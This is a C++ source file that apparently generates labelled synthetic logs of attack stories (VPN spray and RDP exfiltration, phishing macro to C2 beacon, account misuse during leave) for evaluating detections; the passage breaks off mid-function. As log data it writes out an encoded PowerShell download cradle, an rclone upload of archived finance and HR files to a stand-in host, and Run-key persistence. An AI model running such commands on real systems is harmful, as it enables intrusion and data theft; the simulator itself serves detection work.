// The attack stories. Every record written here is labelled with its story, stage (entry /
// internal / exit) and step, so that `demo evaluate` can tell which alerts found what.
//   (a) VPN password spray (after a port scan and SSH guessing) on a holiday night → RDP to a
//       finance PC → finance and HR shares copied → large upload to a file-sharing site
//   (b) phishing attachment → macro → PowerShell dropper → beaconing to C2 → spam
//   (c) an account used at its owner's PC on a day the owner is on leave and never badged in
//   (d) a leaked CI access key used from abroad: discovery, new admin user, bucket reads
#include <algorithm>
#include <cstdio>

#include "demo/world.hpp"

namespace mimamori::demo {

namespace {

int first_day_from(const world& w, int from, bool want_workday, bool prefer_holiday) {
    from = std::clamp(from, 0, w.days - 1);
    if (prefer_holiday)
        for (int d = from; d < w.days; ++d)
            if (w.cal[static_cast<std::size_t>(d)].holiday) return d;
    for (int d = from; d < w.days; ++d)
        if (w.cal[static_cast<std::size_t>(d)].workday == want_workday) return d;
    for (int d = from; d >= 0; --d)
        if (w.cal[static_cast<std::size_t>(d)].workday == want_workday) return d;
    return from;
}

void clear_day(person& p, int day) {
    p.leave.erase(std::remove(p.leave.begin(), p.leave.end(), day), p.leave.end());
    p.remote.erase(std::remove(p.remote.begin(), p.remote.end(), day), p.remote.end());
}

int pick_member(world& w, rng& r, const std::string& dept, bool skip_first, bool office_only) {
    std::vector<int> c;
    int k = 0;
    for (const auto& p : w.people) {
        if (p.dept != dept) continue;
        if (!(skip_first && k == 0) && !(office_only && p.remote_worker)) c.push_back(p.idx);
        ++k;
    }
    return c.empty() ? 0 : c[r.below(c.size())];
}

std::string fin_files(rng& r, int i) {
    static const char* k_dirs[] = {"決算\\2024年度\\", "給与\\2025\\", "取引先\\口座情報\\", "請求\\2025\\04\\", "税務\\"};
    static const char* k_names[] = {"決算書", "給与一覧", "振込先一覧", "請求書", "仕訳帳", "源泉徴収票", "資金繰り表"};
    char buf[160];
    std::snprintf(buf, sizeof buf, "%s%s_%03d.xlsx", r.pick(k_dirs), r.pick(k_names), i);
    return buf;
}

std::string hr_files(rng& r, int i) {
    static const char* k_dirs[] = {"人事評価\\2024\\", "社員名簿\\", "採用\\2025\\", "給与改定\\"};
    static const char* k_names[] = {"評価シート", "社員名簿", "履歴書", "面接記録", "給与改定案", "マイナンバー管理簿"};
    char buf[160];
    std::snprintf(buf, sizeof buf, "%s%s_%03d.xlsx", r.pick(k_dirs), r.pick(k_names), i);
    return buf;
}

// --- (a) ---------------------------------------------------------------------------------------

story_meta story_a(world& w) {
    rng r = derive(w.seed, "story-a");
    const int day = w.plan.a_day;
    const person& v = w.people[static_cast<std::size_t>(w.plan.a_victim)];
    const std::string atk = "203.0.113." + std::to_string(64 + r.below(16));
    const std::string exfil_ip = "203.0.113." + std::to_string(80 + r.below(16));
    const std::string exfil_host = "files.transfer-now.example";
    const std::string tun = "10.212.134.199";
    char ws_buf[32];
    std::snprintf(ws_buf, sizeof ws_buf, "DESKTOP-%07llX", static_cast<unsigned long long>(r.next() & 0xFFFFFFF));
    const std::string ws = ws_buf;
    w.geo_of(atk, "Russian Federation", "RU", "story (a) attacker");
    w.geo_of(exfil_ip, "United States", "US", "story (a) file-sharing site " + exfil_host);

    story_meta m;
    m.id = "a";
    m.title = "VPN password spray → RDP → file shares → large upload";
    m.summary = "On a holiday night " + atk + " scans the company, guesses SSH passwords on web01, then sprays VPN passwords "
                "over the staff accounts (names from the website) until " + v.account + " works; through the tunnel it "
                "RDPs to " + v.pc + ", copies the finance and HR shares into an archive and uploads it to " + exfil_host + ".";
    m.attacker_ips = {atk, tun, exfil_ip};
    m.accounts = {v.account};
    m.hosts = {v.pc, v.ip, ws};
    m.indicators = {exfil_host};

    // entry: recon.
    int s_scan = w.out.step("a", "entry", "a.entry.port_scan", "port scan of the public addresses (FortiGate local-in deny, web01 iptables drops)", {"T1046"});
    usec t = w.at(day, 0, 41, 7, 120000);
    static const int k_ports[] = {21, 22, 23, 25, 80, 110, 143, 443, 445, 587, 993, 1433, 3306, 3389, 5900, 8080, 8443, 10443};
    for (int i = 0; i < 36; ++i) {
        int port = k_ports[static_cast<std::size_t>(i) % std::size(k_ports)];
        if (i % 2 == 0) {
            fgt_session fs = w.local_in_deny(atk, port, r);
            if (port == 10443 || port == 443) continue;  // the SSL-VPN portal answers
            w.fgt_traffic(t, fs, s_scan);
        } else if (port != 22 && port != 80 && port != 443) {
            char buf[400];
            std::int64_t up = (t - w.at(-3, 4, 12)) / k_us;
            std::snprintf(buf, sizeof buf,
                          "[%lld.%06lld] IPTABLES-DROP: IN=ens18 OUT= MAC=bc:24:11:5e:7a:01:00:09:0f:09:00:12:08:00 SRC=%s "
                          "DST=%s LEN=44 TOS=0x00 PREC=0x00 TTL=53 ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0",
                          static_cast<long long>(up), static_cast<long long>(r.below(1000000)), atk.c_str(), w.web_ip.c_str(),
                          static_cast<int>(r.range(1, 65535)), w.ephemeral_port(r), port);
            w.syslog("logs/web01/kern.log", t, "web01", "kernel", buf, s_scan);
        }
        t += r.range(200000, 6000000);
    }

    // entry: SSH guessing on web01 (fails).
    int s_ssh = w.out.step("a", "entry", "a.entry.ssh_bruteforce", "SSH password guessing on web01 from the attacker (all fail)", {"T1110.001"});
    t = w.at(day, 0, 47, 30);
    std::vector<std::string> guesses = {"root", "admin", "kaede", "web", "www", "backup"};
    for (const auto& p : w.people)
        if (guesses.size() < 18) guesses.push_back(p.family);
    for (int i = 0; i < 160; ++i) {
        const std::string& user = guesses[static_cast<std::size_t>(i) % guesses.size()];
        int port = w.ephemeral_port(r);
        std::string tag = "sshd[" + std::to_string(w.next_pid("web01")) + "]";
        std::string ps = std::to_string(port);
        if (user == "root") {
            w.syslog("logs/web01/auth.log", t, "web01", tag,
                     "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=" + atk + "  user=root", s_ssh);
            w.syslog("logs/web01/auth.log", t + 1800000, "web01", tag, "Failed password for root from " + atk + " port " + ps + " ssh2", s_ssh);
            w.syslog("logs/web01/auth.log", t + 2200000, "web01", tag,
                     "Connection closed by authenticating user root " + atk + " port " + ps + " [preauth]", s_ssh);
        } else {
            w.syslog("logs/web01/auth.log", t, "web01", tag, "Invalid user " + user + " from " + atk + " port " + ps, s_ssh);
            w.syslog("logs/web01/auth.log", t + 1800000, "web01", tag,
                     "Failed password for invalid user " + user + " from " + atk + " port " + ps + " ssh2", s_ssh);
            w.syslog("logs/web01/auth.log", t + 2200000, "web01", tag,
                     "Connection closed by invalid user " + user + " " + atk + " port " + ps + " [preauth]", s_ssh);
        }
        t += r.range(3000000, 9000000);
    }

    // entry: VPN password spray over the staff accounts until one works.
    int s_spray = w.out.step("a", "entry", "a.entry.vpn_spray", "SSL-VPN password spray over staff accounts from the attacker", {"T1110.003"});
    t = w.at(day, 1, 22, 4);
    std::vector<std::string> users;
    for (const auto& p : w.people)
        if (p.idx != v.idx) users.push_back(p.account);
    users.push_back("admin");
    users.push_back("vpnuser");
    users.push_back(v.family);
    for (int round = 0; round < 3; ++round) {
        for (const auto& u : users) {
            bool known = false;
            for (const auto& p : w.people) known |= p.account == u;
            w.fgt_event(t, "0101039426", "vpn", "alert",
                        "logdesc=\"SSL VPN login fail\" action=\"ssl-login-fail\" tunneltype=\"ssl-web\" tunnelid=0 remip=" + atk +
                            " user=\"" + u + "\" group=\"N/A\" dst_host=\"N/A\" reason=\"" +
                            (known ? "sslvpn_login_permission_denied" : "sslvpn_login_unknown_user") +
                            "\" msg=\"SSL user failed to logged in\"",
                        s_spray);
            t += r.range(2500000, 7000000);
        }
        if (round < 2) {
            // The victim's account fails in the first rounds too.
            w.fgt_event(t, "0101039426", "vpn", "alert",
                        "logdesc=\"SSL VPN login fail\" action=\"ssl-login-fail\" tunneltype=\"ssl-web\" tunnelid=0 remip=" + atk +
                            " user=\"" + v.account +
                            "\" group=\"N/A\" dst_host=\"N/A\" reason=\"sslvpn_login_permission_denied\" msg=\"SSL user failed to logged in\"",
                        s_spray);
            t += r.range(2500000, 7000000);
        }
        t += r.range(60, 240) * k_us;
    }
    int s_login = w.out.step("a", "entry", "a.entry.vpn_login", "SSL-VPN tunnel up for the guessed account from the attacker's address", {"T1133", "T1078"});
    usec tunnel_up = t + r.range(3, 8) * k_us;
    std::string tid = std::to_string(1500000000 + r.below(1000000));
    w.fgt_event(tunnel_up, "0101039424", "vpn", "information",
                "logdesc=\"SSL VPN tunnel up\" action=\"tunnel-up\" tunneltype=\"ssl-tunnel\" tunnelid=" + tid + " remip=" + atk +
                    " tunnelip=" + tun + " user=\"" + v.account +
                    "\" group=\"VPN-Users\" dst_host=\"N/A\" reason=\"tunnel established\" msg=\"SSL tunnel established\"",
                s_login);

    // internal: share discovery from the attacker's own machine through the tunnel.
    int s_disc = w.out.step("a", "internal", "a.internal.share_discovery",
                            "NTLM logon to FS01 from the VPN address with a non-company workstation name; every share listed", {"T1135", "T1021.002"});
    usec u = tunnel_up + r.range(180, 400) * k_us;
    auto vpn_session = [&](usec when, const std::string& dst, int port, const std::string& service, std::int64_t dur,
                           std::uint64_t sent, std::uint64_t rcvd, int step) {
        fgt_session fs;
        fs.srcip = tun;
        fs.srcintf = "ssl.root";
        fs.srcintfrole = "undefined";
        fs.srcport = w.ephemeral_port(r);
        fs.dstip = dst;
        fs.dstport = port;
        fs.dstintf = "internal";
        fs.dstintfrole = "lan";
        fs.service = service;
        fs.policyid = 7;
        fs.policyname = "SSLVPN-to-LAN";
        fs.user = v.account;
        fs.snat = false;
        fs.duration = dur;
        fs.sentbyte = sent;
        fs.rcvdbyte = rcvd;
        w.fgt_traffic(when + dur * k_us, fs, step);
    };
    std::string lid = w.logon_id(r);
    w.ntlm_validate(u - 300000, v.account, ws, "0x0", s_disc);
    w.logon("FS01", u, v.account, v.sid, 3, tun, ws, "NTLM", lid, r, s_disc);
    w.share_access(u + 400000, v.account, v.sid, lid, tun, "IPC$", s_disc);
    usec uu = u + 2 * k_us;
    for (const auto& d : w.depts) {
        uu += r.range(300000, 2000000);
        w.share_access(uu, v.account, v.sid, lid, tun, d.share, s_disc);
    }
    w.logoff("FS01", uu + 40 * k_us, v.account, v.sid, 3, lid, s_disc);
    vpn_session(u - k_us, w.fs_ip, 445, "SMB", 95, 48000, 210000, s_disc);
    vpn_session(u - 2 * k_us, w.dc_ip, 445, "SMB", 12, 9000, 22000, s_disc);

    // internal: RDP to the victim's own PC.
    int s_rdp = w.out.step("a", "internal", "a.internal.rdp", "RDP from the VPN address to the victim's PC (logon type 10, NTLM)", {"T1021.001"});
    u += r.range(8, 14) * k_min_us;
    std::string rlid = w.logon_id(r);
    w.ntlm_validate(u - 500000, v.account, ws, "0x0", s_rdp);
    w.logon(v.pc, u, v.account, v.sid, 10, tun, ws, "NTLM", rlid, r, s_rdp);
    usec rdp_end = u + r.range(100, 115) * k_min_us;
    vpn_session(u - 2 * k_us, v.ip, 3389, "RDP", (rdp_end - u) / k_us, 38000000, 410000000, s_rdp);
    std::string user = w.netbios + "\\" + v.account;
    int s_cmd = w.out.step("a", "internal", "a.internal.discovery_commands", "discovery commands in the RDP session", {"T1087.002", "T1135", "T1059.003"});
    usec c = u + r.range(60, 120) * k_us;
    w.process(v.pc, c, user, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", "C:\\Windows\\explorer.exe",
              "C:\\Windows\\Explorer.EXE", r, s_cmd);
    for (const char* cmd : {"whoami /all", "net group \"Domain Admins\" /domain", "net view \\\\FS01 /all", "net use Z: \\\\FS01\\Keiri",
                            "net use Y: \\\\FS01\\Jinji"}) {
        c += r.range(15, 90) * k_us;
        std::string line = cmd;
        std::string exe = line.rfind("whoami", 0) == 0 ? "C:\\Windows\\System32\\whoami.exe" : "C:\\Windows\\System32\\net.exe";
        std::string full = line.rfind("whoami", 0) == 0 ? line : "C:\\Windows\\system32\\" + line;
        w.process(v.pc, c, user, exe, full, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", r, s_cmd);
    }

    // internal: the shares are read and packed.
    int s_collect = w.out.step("a", "internal", "a.internal.collection",
                               "finance (Keiri) and HR (Jinji) shares read in bulk from the victim's PC at night", {"T1039"});
    usec f = c + r.range(60, 180) * k_us;
    std::string flid = w.logon_id(r);
    w.kerberos_service(f - 500000, v.account, "FS01$", v.ip, r, s_collect);
    w.logon("FS01", f, v.account, v.sid, 3, v.ip, "-", "Kerberos", flid, r, s_collect);
    w.share_access(f + 300000, v.account, v.sid, flid, v.ip, "Keiri", s_collect);
    w.share_access(f + 900000, v.account, v.sid, flid, v.ip, "Jinji", s_collect);
    usec g = f + 2 * k_us;
    for (int i = 0; i < 150; ++i) {
        g += r.range(2, 9) * k_us;
        w.share_file(g, v.account, v.sid, flid, v.ip, "Keiri", fin_files(r, i), "0x1", false, s_collect);
    }
    for (int i = 0; i < 70; ++i) {
        g += r.range(2, 9) * k_us;
        w.share_file(g, v.account, v.sid, flid, v.ip, "Jinji", hr_files(r, i), "0x1", false, s_collect);
    }
    int s_zip = w.out.step("a", "internal", "a.internal.archive", "7-Zip archive with a password made of the copied files", {"T1560.001"});
    usec z = g + r.range(30, 90) * k_us;
    w.process(v.pc, z, user, "C:\\Program Files\\7-Zip\\7z.exe",
              "\"C:\\Program Files\\7-Zip\\7z.exe\" a -mx1 -pKaede2025! C:\\Users\\Public\\Documents\\k.7z Z:\\* Y:\\*",
              "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", r, s_zip);
    w.file_create(v.pc, z + 4 * k_us, user, "C:\\Program Files\\7-Zip\\7z.exe", "C:\\Users\\Public\\Documents\\k.7z", r, s_zip);
    w.logoff("FS01", z + r.range(5, 10) * k_min_us, v.account, v.sid, 3, flid, s_collect);

    // exit: rclone to a file-sharing site.
    int s_up = w.out.step("a", "exit", "a.exit.upload", "2.9 GB uploaded with rclone from the victim's PC to a file-sharing site", {"T1567.002", "T1048"});
    usec x = z + r.range(9, 14) * k_min_us;
    w.process(v.pc, x, user, "C:\\Users\\Public\\Documents\\rclone.exe",
              "C:\\Users\\Public\\Documents\\rclone.exe copy C:\\Users\\Public\\Documents\\k.7z tn:drop/k --transfers 8 --no-check-certificate",
              "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", r, s_up,
              "SHA256=E4D1C3B2A1908F7E6D5C4B3A29180F7E6D5C4B3A29180F7E6D5C4B3A29180F7E");
    w.dns_query(v.pc, x + 400000, user, "C:\\Users\\Public\\Documents\\rclone.exe", exfil_host, exfil_ip, r, s_up);
    w.net_connect(v.pc, v.ip, x + 600000, user, "C:\\Users\\Public\\Documents\\rclone.exe", exfil_ip, 443, exfil_host, r, s_up);
    w.fgt_utm(x + 700000, "0316013056", "webfilter", "notice",
              "eventtype=\"ftgd_allow\" policyid=1 sessionid=" + std::to_string(r.range(190000000, 199999999)) + " srcip=" + v.ip +
                  " srcport=" + std::to_string(w.ephemeral_port(r)) + " srcintf=\"internal\" srcintfrole=\"lan\" dstip=" + exfil_ip +
                  " dstport=443 dstintf=\"wan1\" dstintfrole=\"wan\" proto=6 service=\"HTTPS\" hostname=\"" + exfil_host +
                  "\" profile=\"default\" action=\"passthrough\" reqtype=\"direct\" url=\"https://" + exfil_host +
                  "/\" sentbyte=0 rcvdbyte=0 direction=\"outgoing\" msg=\"URL belongs to an allowed category in policy\" cat=31 catdesc=\"File Sharing and Storage\"",
              s_up);
    std::uint64_t total = 0;
    usec sx = x + k_us;
    for (int i = 0; i < 8; ++i) {
        fgt_session fs;
        fs.srcip = v.ip;
        fs.srcport = w.ephemeral_port(r);
        fs.dstip = exfil_ip;
        fs.dstport = 443;
        fs.app = "HTTPS.BROWSER";
        fs.duration = r.range(1500, 2400);
        fs.sentbyte = static_cast<std::uint64_t>(r.range(330, 400)) * 1000000ULL + r.below(1000000);
        fs.rcvdbyte = fs.sentbyte / 90;
        total += fs.sentbyte;
        w.fgt_traffic(sx + fs.duration * k_us, fs, s_up);
        sx += r.range(1, 4) * k_us;
    }
    (void)total;
    int s_out = w.out.step("a", "exit", "a.exit.leave", "RDP session and VPN tunnel closed", {"T1133"});
    usec end = std::max(rdp_end, x + 45 * k_min_us);
    w.logoff(v.pc, end, v.account, v.sid, 10, rlid, s_out);
    w.fgt_event(end + r.range(60, 200) * k_us, "0101039425", "vpn", "information",
                "logdesc=\"SSL VPN tunnel down\" action=\"tunnel-down\" tunneltype=\"ssl-tunnel\" tunnelid=" + tid + " remip=" + atk +
                    " tunnelip=" + tun + " user=\"" + v.account + "\" group=\"VPN-Users\" dst_host=\"N/A\" duration=" +
                    std::to_string((end - tunnel_up) / k_us) + " sentbyte=" + std::to_string(41000000 + r.below(5000000)) +
                    " rcvdbyte=" + std::to_string(430000000 + r.below(50000000)) + " reason=\"N/A\" msg=\"SSL tunnel shutdown\"",
                s_out);
    m.notes = {"The account's owner was not at work: the night is a public holiday (" +
                   w.cal[static_cast<std::size_t>(day)].holiday_en + ") and the badge reader has no entry.",
               "SSH guessing on web01 fails; the VPN spray succeeds on the third round."};
    return m;
}

// --- (b) ---------------------------------------------------------------------------------------

story_meta story_b(world& w) {
    rng r = derive(w.seed, "story-b");
    const int day = w.plan.b_day;
    const person& v = w.people[static_cast<std::size_t>(w.plan.b_victim)];
    const std::string phish_ip = "198.51.100." + std::to_string(240 + r.below(4));
    const std::string c2 = "198.51.100." + std::to_string(244 + r.below(8));
    const std::string c2_host = "cdn-update-check.example";
    const std::string dropper_host = "dl.invoice-view.example";
    const std::string dropper_ip = "198.51.100." + std::to_string(252 + r.below(3));
    w.geo_of(phish_ip, "Netherlands", "NL", "story (b) phishing sender");
    w.geo_of(c2, "Bulgaria", "BG", "story (b) C2 server " + c2_host);
    w.geo_of(dropper_ip, "Bulgaria", "BG", "story (b) payload host " + dropper_host);

    story_meta m;
    m.id = "b";
    m.title = "Phishing attachment → malware beaconing to C2 → spam";
    m.summary = v.account + " opens a macro-enabled invoice mailed from " + phish_ip + "; PowerShell fetches a payload that "
                "persists in the Run key, beacons to " + c2 + " (" + c2_host + ") every ~5 minutes whenever " + v.pc +
                " is on, and twice sends spam: directly to port 25 (blocked) and through mail01 with the user's password.";
    m.attacker_ips = {phish_ip, c2, dropper_ip};
    m.accounts = {v.account};
    m.hosts = {v.pc, v.ip};
    m.indicators = {c2_host, dropper_host, "billing-notice.example"};

    auto [logon_t, leave_t] = w.worktime[static_cast<std::size_t>(v.idx)][static_cast<std::size_t>(day)];
    if (logon_t == 0) {
        logon_t = w.at(day, 9, 0);
        leave_t = w.at(day, 18, 30);
    }
    // entry: the mail.
    int s_mail = w.out.step("b", "entry", "b.entry.phishing_mail", "phishing mail with a macro-enabled invoice delivered to the victim", {"T1566.001"});
    usec t = std::max(logon_t + 40 * k_min_us, w.at(day, 10, 14, 3));
    w.mail_in(t, "invoice@billing-notice.example", "mail.billing-notice.example", phish_ip, {v.email}, 412733, r, s_mail,
              "請求書_" + format_date(w.cal[static_cast<std::size_t>(day)].d) + ".xlsm");

    // internal: user opens it.
    int s_exec = w.out.step("b", "internal", "b.internal.macro_powershell",
                            "Excel macro starts an encoded PowerShell that downloads and starts a payload", {"T1204.002", "T1059.001", "T1105"});
    std::string user = w.netbios + "\\" + v.account;
    std::string doc = "C:\\Users\\" + v.account + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7ZK2M1P\\請求書_" +
                      format_date(w.cal[static_cast<std::size_t>(day)].d) + ".xlsm";
    usec o = t + r.range(12, 20) * k_min_us;
    w.process(v.pc, o, user, "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
              "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"" + doc + "\"",
              "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
              "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ", r, s_exec);
    const std::string enc =
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBkAGwALgBpAG4AdgBvAGkAYwBlAC0AdgBpAGUAdwAuAGUAeABhAG0AcABsAGUALwBhACcAKQA=";
    w.process(v.pc, o + 9 * k_us, user, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              "powershell.exe -NoP -W Hidden -Exec Bypass -Enc " + enc,
              "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
              "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"" + doc + "\"", r, s_exec);
    w.dns_query(v.pc, o + 10 * k_us, user, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", dropper_host,
                dropper_ip, r, s_exec);
    w.net_connect(v.pc, v.ip, o + 10 * k_us + 300000, user, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  dropper_ip, 443, dropper_host, r, s_exec);
    {
        fgt_session fs;
        fs.srcip = v.ip;
        fs.srcport = w.ephemeral_port(r);
        fs.dstip = dropper_ip;
        fs.app = "HTTPS.BROWSER";
        fs.duration = 3;
        fs.sentbyte = 1840;
        fs.rcvdbyte = 1392640;
        w.fgt_traffic(o + 14 * k_us, fs, s_exec);
    }
    const std::string payload = "C:\\Users\\" + v.account + "\\AppData\\Roaming\\Microsoft\\Windows\\svchost32.exe";
    w.file_create(v.pc, o + 15 * k_us, user, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", payload, r, s_exec);
    w.process(v.pc, o + 17 * k_us, user, payload, "\"" + payload + "\" /s", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              "powershell.exe -NoP -W Hidden -Exec Bypass -Enc " + enc, r, s_exec,
              "SHA256=9F2B7C61D0A4E3B58C7D6E5F4A3B2C1D0E9F8A7B6C5D4E3F2A1B0C9D8E7F6A5B");
    int s_persist = w.out.step("b", "internal", "b.internal.run_key", "payload made persistent in the user's Run key", {"T1547.001"});
    {
        win_event e;
        e.channel = "Microsoft-Windows-Sysmon/Operational";
        e.provider = "Microsoft-Windows-Sysmon";
        e.id = 13;
        e.task = "Registry value set (rule: RegistryEvent)";
        e.data = {{"RuleName", "T1060,RunKey"},
                  {"EventType", "SetValue"},
                  {"UtcTime", sysmon_time(o + 19 * k_us)},
                  {"ProcessGuid", w.guid(r)},
                  {"ProcessId", std::to_string(w.next_pid(v.pc))},
                  {"Image", payload},
                  {"TargetObject", "HKU\\" + v.sid + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate"},
                  {"Details", "\"" + payload + "\" /s"},
                  {"User", user}};
        w.win(v.pc, o + 19 * k_us, e, s_persist);
    }

    // exit: beaconing whenever the PC is on, from now to the end of the period.
    int s_c2 = w.out.step("b", "exit", "b.exit.c2_beacon", "HTTPS beacons to the C2 address every ~5 minutes while the PC is on", {"T1071.001", "T1573"});
    for (int d = day; d < w.days; ++d) {
        auto [from, to] = w.worktime[static_cast<std::size_t>(v.idx)][static_cast<std::size_t>(d)];
        if (d == day) {
            from = o + 25 * k_us;
            to = std::max(to, leave_t);
        }
        if (from == 0 || to <= from) continue;
        bool first = true;
        for (usec b = from + r.range(30, 90) * k_us; b < to; b += r.range(240, 360) * k_us) {
            if (first) {
                w.dns_query(v.pc, b - 200000, user, payload, c2_host, c2, r, s_c2);
                w.net_connect(v.pc, v.ip, b, user, payload, c2, 443, c2_host, r, s_c2);
                first = false;
            }
            fgt_session fs;
            fs.srcip = v.ip;
            fs.srcport = w.ephemeral_port(r);
            fs.dstip = c2;
            fs.app = "SSL";
            fs.appcat = "unscanned";
            fs.duration = r.range(1, 3);
            fs.sentbyte = static_cast<std::uint64_t>(r.range(1480, 1620));
            fs.rcvdbyte = static_cast<std::uint64_t>(r.range(4200, 4600));
            w.fgt_traffic(b + fs.duration * k_us, fs, s_c2);
        }
    }

    // exit: spam, twice, in the afternoon of later workdays.
    int s_spam25 = w.out.step("b", "exit", "b.exit.spam_direct", "direct SMTP to many external mail servers, blocked by the FortiGate", {"T1496"});
    int s_spam = w.out.step("b", "exit", "b.exit.spam_relay", "spam through mail01 with the victim's stolen SMTP password (many recipients, bounces)", {"T1078", "T1496"});
    int bursts = 0;
    for (int d = day + 1; d < w.days && bursts < 2; ++d) {
        auto [from, to] = w.worktime[static_cast<std::size_t>(v.idx)][static_cast<std::size_t>(d)];
        if (from == 0 || to - from < 5 * k_hour_us || !w.cal[static_cast<std::size_t>(d)].workday) continue;
        ++bursts;
        usec s = std::max(from + 2 * k_hour_us, w.at(d, 13, static_cast<int>(r.range(5, 40))));
        for (int i = 0; i < 140; ++i) {
            fgt_session fs;
            fs.srcip = v.ip;
            fs.srcport = w.ephemeral_port(r);
            fs.dstip = internet_ip(r);
            register_country(w, fs.dstip, r, "mail server (spam target)");
            fs.dstport = 25;
            fs.service = "SMTP";
            fs.action = "deny";
            fs.policyid = 3;
            fs.policyname = "Block-SMTP-out";
            fs.duration = 0;
            fs.snat = false;
            w.fgt_traffic(s + i * r.range(2, 8) * k_us + static_cast<usec>(r.below(1000000)), fs, s_spam25);
        }
        usec m_t = s + 15 * k_min_us;
        static const char* k_spam_doms[] = {"example.com", "example.net", "example.org", "mail.example.com", "post.example.net"};
        for (int k = 0; k < 30; ++k) {
            std::vector<std::string> to_list;
            int n = static_cast<int>(r.range(15, 40));
            for (int j = 0; j < n; ++j) {
                char buf[64];
                std::snprintf(buf, sizeof buf, "u%05llu@%s", static_cast<unsigned long long>(r.below(100000)), r.pick(k_spam_doms));
                to_list.push_back(buf);
            }
            std::sort(to_list.begin(), to_list.end());
            to_list.erase(std::unique(to_list.begin(), to_list.end()), to_list.end());
            w.mail_out(m_t, v.account, w.fqdn(v.pc), v.ip, v.email, to_list, static_cast<std::uint64_t>(r.range(9000, 14000)), r, s_spam, 220);
            m_t += r.range(20, 70) * k_us + static_cast<usec>(r.below(1000000));
        }
    }
    m.notes = {"No badge anomaly: the victim is at work. The C2 traffic is small, regular and only during working hours."};
    return m;
}

// --- (c) ---------------------------------------------------------------------------------------

story_meta story_c(world& w) {
    rng r = derive(w.seed, "story-c");
    const int day = w.plan.c_day;
    const person& v = w.people[static_cast<std::size_t>(w.plan.c_owner)];
    story_meta m;
    m.id = "c";
    m.title = "Account used while its owner is on leave (no badge)";
    m.summary = v.account + " is on paid leave on " + format_date(w.cal[static_cast<std::size_t>(day)].d) +
                " and never badges in, yet the account logs on at " + v.pc + " at lunchtime, reads HR files and mails "
                "attachments to a private address.";
    m.accounts = {v.account};
    m.hosts = {v.pc, v.ip};
    m.indicators = {"freemail.example"};

    int s_logon = w.out.step("c", "entry", "c.entry.logon_on_leave", "interactive logon at the owner's PC while the owner is on leave (one wrong password first)", {"T1078"});
    usec t = w.at(day, 12, static_cast<int>(r.range(28, 40)), static_cast<int>(r.below(60)), static_cast<std::int64_t>(r.below(1000000)));
    w.logon_failed(v.pc, t - 21 * k_us, v.account, 2, "127.0.0.1", v.pc, "0xc000006a", r, s_logon);
    w.kerberos_tgt(t - 21 * k_us + 300000, v.account, v.sid, v.ip, "0x18", r, s_logon);
    std::string lid = w.logon_id(r);
    w.kerberos_tgt(t - 400000, v.account, v.sid, v.ip, "0x0", r, s_logon);
    w.logon(v.pc, t, v.account, v.sid, 2, "127.0.0.1", v.pc, "Negotiate", lid, r, s_logon);
    w.kerberos_service(t + 900000, v.account, "FS01$", v.ip, r, s_logon);
    std::string user = w.netbios + "\\" + v.account;
    w.process(v.pc, t + 3 * k_us, user, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "C:\\Windows\\System32\\userinit.exe",
              "C:\\Windows\\system32\\userinit.exe", r, s_logon);

    int s_read = w.out.step("c", "internal", "c.internal.hr_files", "HR share (Jinji) files read in the owner's name", {"T1039"});
    usec f = t + r.range(40, 90) * k_us;
    std::string flid = w.logon_id(r);
    w.logon("FS01", f, v.account, v.sid, 3, v.ip, "-", "Kerberos", flid, r, s_read);
    w.share_access(f + 200000, v.account, v.sid, flid, v.ip, "Jinji", s_read);
    usec g = f + k_us;
    for (int i = 0; i < 28; ++i) {
        g += r.range(5, 40) * k_us;
        w.share_file(g, v.account, v.sid, flid, v.ip, "Jinji", hr_files(r, i), "0x1", false, s_read);
    }
    w.process(v.pc, g + 10 * k_us, user, "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
              "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"\\\\FS01\\Jinji\\人事評価\\2024\\評価シート_007.xlsx\"",
              "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", r, s_read);

    int s_mail = w.out.step("c", "exit", "c.exit.mail_private", "HR files mailed as attachments to a private free-mail address", {"T1048.003", "T1114"});
    usec mt = g + r.range(4, 9) * k_min_us;
    w.mail_out(mt, v.account, w.fqdn(v.pc), v.ip, v.email, {"k.private2025@freemail.example"}, 8734112, r, s_mail, 0);
    w.mail_out(mt + r.range(60, 180) * k_us, v.account, w.fqdn(v.pc), v.ip, v.email, {"k.private2025@freemail.example"}, 6120554, r,
               s_mail, 0);
    usec end = mt + r.range(8, 15) * k_min_us;
    win_event e;
    e.id = 4647;
    e.task = "Logoff";
    e.data = {{"TargetUserSid", v.sid}, {"TargetUserName", v.account}, {"TargetDomainName", w.netbios}, {"TargetLogonId", lid}};
    w.win(v.pc, end, e, s_mail);
